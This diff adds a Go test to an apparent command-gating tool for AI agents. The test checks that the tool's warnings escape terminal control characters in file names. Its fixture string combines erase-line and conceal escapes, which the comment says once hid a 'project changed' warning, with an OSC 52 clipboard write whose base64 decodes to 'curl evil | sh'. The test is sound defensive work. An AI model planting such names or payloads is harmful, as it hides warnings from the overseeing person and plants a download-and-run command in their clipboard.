@@ -1,10 +1,13 @@
 package main
 
 import (
+	"os"
 	"os/exec"
 	"path/filepath"
 	"strings"
 	"testing"
+
+	"guard/internal/gate"
 )
 
 // An "always" answer holds the command the person saw, with every word of
@@ -39,6 +42,54 @@ func TestAlwaysKeepsEveryOption(t *testing.T) {
 		if r := execute(t, w.guardCmd("--mode", "suggest", "--", "make", "deploy")); r.code != 126 || fileExists(marker) {
 			t.Errorf("answers %q to make -n deploy, then make deploy with no terminal: %s, made %v; want 126 and nothing run",
 				answers, r, fileExists(marker))
+		}
+	}
+}
+
+// guard's own lines that name what an agent may have made (a trusted
+// project's .guard files, a .guard it planted, a link's target) show the
+// characters a terminal acts on as escapes: a file named with "\x1b[2K"
+// (erase the line) and "\x1b[8m" (conceal) hid the warning that the
+// trusted project had changed, and OSC 52 sets the person's clipboard.
+func TestWarningsShowNamesEscaped(t *testing.T) {
+	t.Parallel()
+	const esc = "\r\x1b[2K\x1b]52;c;Y3VybCBldmlsIHwgc2gK\a\x1b[8m"
+	w := newWorld(t)
+	w.write("work/.guard/config.toml", "allow_network = false\n", 0o644)
+	store := gate.TrustStore(func(k string) string { return gate.Getenv(w.env, k) })
+	if _, err := store.Trust(w.work); err != nil {
+		t.Fatal(err)
+	}
+	if r := execute(t, w.guardCmd("--", "true")); r.code != 0 || r.stderr != "" {
+		t.Fatalf("trusted project, unchanged: %s, want it run with nothing said", r)
+	}
+	if err := os.Symlink("/nonexistent", filepath.Join(w.work, ".guard", esc+"x.policy")); err != nil {
+		t.Fatal(err)
+	}
+	nested := filepath.Join(w.work, "sub"+esc)
+	w.write(filepath.Join(nested, ".guard", "config.toml"), "allow_network = true\n", 0o644)
+	if err := os.Symlink("/tmp/"+esc+"t", filepath.Join(w.work, "l")); err != nil {
+		t.Fatal(err)
+	}
+	for _, c := range []struct {
+		name string
+		cmd  *exec.Cmd
+		want string
+	}{
+		{"a trusted project changed", w.guardCmd("--", "true"), "changed since it was trusted"},
+		{"a .guard never trusted", w.guardCmd("--", "true"), "is not trusted"},
+		{"explain --edit of a link", w.guardCmd("explain", "--edit", "l"), "writes:"},
+	} {
+		if c.name == "a .guard never trusted" {
+			c.cmd.Dir = nested
+		}
+		r := execute(t, c.cmd)
+		out := r.stdout + r.stderr
+		if !strings.Contains(out, c.want) {
+			t.Errorf("%s: %s, want %q", c.name, r, c.want)
+		}
+		if strings.ContainsAny(out, "\x1b\a\r") {
+			t.Errorf("%s: the output holds terminal controls: %q", c.name, out)
 		}
 	}
 }
